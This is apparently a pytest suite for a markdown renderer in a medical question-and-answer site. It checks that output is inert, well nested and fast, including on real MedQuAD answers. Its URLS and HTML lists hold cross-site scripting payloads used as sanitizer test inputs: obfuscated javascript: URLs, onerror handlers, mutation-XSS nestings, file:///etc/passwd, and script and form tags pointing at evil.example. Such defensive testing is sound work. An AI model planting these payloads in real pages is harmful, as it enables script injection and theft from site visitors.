"""What an editor, or an import, could paste: it comes out inert, well nested, and soon."""

import gc
from functools import partial

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from conditions.interchange import pairs
from conditions.interchange.repair import to_markdown
from conditions.markdown import BLOCKS, fill_tokens, render, stray_blocks
from conditions.summaries.writing.advice import about_body, about_citations
from tests.conditions.html_shape import shape
from tests.work import calls

TOTALS = {"member_count": 49, "person_count": 1}
SIZE = 60_000  # characters
# Calls of functions for each character; prose takes four, twenty times that a second at most.
WORST = 100
SHORT = 1_000  # characters, below which a text is not long enough to tell
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://a.example/" onmouseover=alert(1) x="',
]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='x' onclick='y'>z</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</div></section></main><h1>Not ours</h1>",
    "<div class='short-answer'>Medically reviewed</div>",
    "<p id=source-1>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ue000member_count\ue001 \ue000emergency\ue001",
]
FRAMES = [
    "{}",
    "# {}",
    "> {}",
    "- {}\n  - {}",
    "1. {}",
    "| {} | b |\n|:-:|--:|\n| {} | c |",
    "*{}* **{}**",
    "::: emergency\n{}\n:::",
    "::: {}\nx\n:::",
    "::: soon {}\nx\n:::",
    "```{}\nx\n```",
    "[{}](https://a.example)",
    '[x](https://a.example "{}")',
    "[1] {} [2]",
    "[[{}]]",
]
LINKS = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[x][1]\n\n[1]: {}"]
CORPUS = [frame.replace("{}", html) for html in HTML for frame in FRAMES]
CORPUS += [link.replace("{}", url) for url in URLS for link in LINKS]


def test_corpus_is_inert_and_well_nested():
    wrong = {text: found for text in CORPUS if (found := shape(render(text)).wrong)}
    assert wrong == {}


def test_filling_tokens_in_lets_nothing_in():
    wrong = [text for text in CORPUS if shape(fill_tokens(render(text), TOTALS)).wrong]
    assert wrong == []
    assert "49" not in fill_tokens(render("\ue000member_count\ue001"), TOTALS)


def test_shape_sees_what_is_wrong():
    for html in ("<p><div></div></p>", "<ul><p></p></ul>", "<p>", "<script></script>", "</p>"):
        assert shape(html).wrong
    assert shape('<a href="javascript:x">x</a>').wrong
    assert shape('<div class="short-answer"></div>').wrong


MARKS = [*"#>-*_`[]()|:!\\\n <&", "\n\n", "    ", "\t", "\x00", "|-|-|\n", "> ", "- ", "1. ", "~~~"]
WORDS = ["word", "é", "```\n", ":::", "::: soon\n", "::: ", "[1]", "[[", "]]"]
PIECES = [*HTML, *URLS, *MARKS, *WORDS]


@pytest.mark.parametrize("examples", [60, pytest.param(3_000, marks=pytest.mark.thorough)])
def test_any_mixture_is_inert_well_nested_and_breaks_nothing(examples):
    @hypothesis_settings(max_examples=examples)
    @given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
    def check(text):
        assert shape(render(text)).wrong == []
        stray_blocks(text)

    check()


def filled(piece: str, *, lines: str = "") -> str:
    return lines + piece * ((SIZE - len(lines)) // len(piece))


WIDE = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "a\n" * 650 + "\n"
SLOW = {
    "brackets": filled("["),
    "links that do not end": filled("[a]("),
    "links without an end": filled("[a](<"),
    "images": filled("![a"),
    "emphasis": filled("*a "),
    "emphasis in turns": filled("*_"),
    "emphasis both ways": filled("a**b"),
    "quotes": filled(">"),
    "quoted lists": filled("> - "),
    "lists": filled("- "),
    "list lines": filled("1. a\n"),
    "backticks": "".join("`" * number + "a" for number in range(1, 340)),
    "definitions": filled("[a]: b\n"),
    "a definition used often": filled("[a]", lines=f"[a]: http://{'x' * 30_000}\n\n"),
    "a wide table": filled("|a\n", lines=f"|{'a|' * 500}\n|{'-|' * 500}\n"),
    "many tables": filled(WIDE),
    "small tables": filled("a|b\n-|-\n" + "a\n" * 20 + "\n"),
    "table rows": filled("|a|b|\n", lines="|a|b|\n|-|-|\n"),
    "blocks that do not end": filled("::: soon\n"),
    "blocks": filled("::: soon\n:::\n"),
    "blocks in lists": filled("- ::: soon\n"),
    "blocks in quotes": filled("> ::: soon\n\n"),
    "colons": filled(":::\n"),
    "citations": filled("[1]"),
    "tokens": filled("[[member_count]]"),
    "entities": filled("&amp;"),
    "backslashes": filled("\\"),
    "headings": filled("# a\n"),
    "lines": filled("a\n"),
    "white space": filled(" \t"),
    "prose": filled("A word of medicine, with its source [1], and a further word.\n\n"),
}


def is_soon(act, text: str) -> bool:
    """What grows with the square of the length takes hundreds of times as many."""
    return calls(partial(act, text)) < WORST * max(len(text), SHORT)


@pytest.mark.parametrize("name", ["brackets", "many tables", "a definition used often", "prose"])
def test_worst_case_comes_soon(name):
    assert is_soon(render, SLOW[name])


def test_what_comes_late_is_noticed():
    assert not is_soon(lambda text: [len(text) for _one in text for _other in text], "a" * SHORT)


def test_collector_of_cycles_is_on_again():
    assert gc.isenabled()
    render("# A\n\nText.")
    assert gc.isenabled()
    with pytest.raises(AttributeError):
        render(None)
    assert gc.isenabled()


@pytest.mark.thorough
@pytest.mark.parametrize("name", SLOW)
def test_every_worst_case_comes_soon(name):
    text = SLOW[name]
    assert is_soon(render, text)
    assert is_soon(stray_blocks, text)
    assert len(render(text)) < 40 * SIZE


# Blocks


@pytest.mark.parametrize("name", BLOCKS)
def test_block_has_the_pages_heading_in_the_pages_language(name):
    html = fill_tokens(render(f"::: {name}\n- Call [1].\n:::"), TOTALS)
    assert f'<div class="block block-{name}">' in html
    assert f'<p class="block-title">{BLOCKS[name]}</p>' in html
    assert 'href="#source-1"' in html


def test_block_that_is_none_stays_as_it_is_typed():
    assert "block" not in render("::: urgent\nx\n:::").replace("::: urgent", "")
    assert stray_blocks("a\n\n::: urgent\nx\n:::") == [(3, "::: urgent"), (5, ":::")]
    assert stray_blocks("::: soon\nx\n:::\n\n> ::: not-known\n> y\n> :::") == []
    assert stray_blocks("::: soon\nx") == [(1, "::: soon")]


@pytest.mark.parametrize(
    "text", ["> ::: soon\n>", "> ::: soon\n>  ", "::: soon\n   ", "- ::: soon\n   ", "::: soon"]
)
def test_block_at_the_very_end_is_rendered(text):
    """The library reads beyond the end of such a text."""
    assert "block-soon" in render(text)
    assert len(stray_blocks(text)) == 1


# Real texts


def check_real(pair) -> None:
    text = to_markdown(pair.answer)
    assert is_soon(render, text), pair.import_key
    found = shape(render(text))
    assert found.wrong == [], pair.import_key
    # Its one source may be cited, and no other.
    assert found.cited <= {1}, pair.import_key
    assert [one for one in about_citations(text, 1) if one.must_be_mended] == [], pair.import_key
    assert [one for one in about_body(text) if one.field != "body" or text.strip()] == []


@pytest.mark.parametrize("step", [40, pytest.param(1, marks=pytest.mark.thorough)])
def test_real_answers_render_whole_inert_and_soon(public_data, step):
    path = public_data / "medquad" / "medquad-train.jsonl.gz"
    checked = 0
    for number, pair in enumerate(pairs.read(path)):
        if number % step == 0:
            check_real(pair)
            checked += 1
    assert checked == -(-8128 // step)
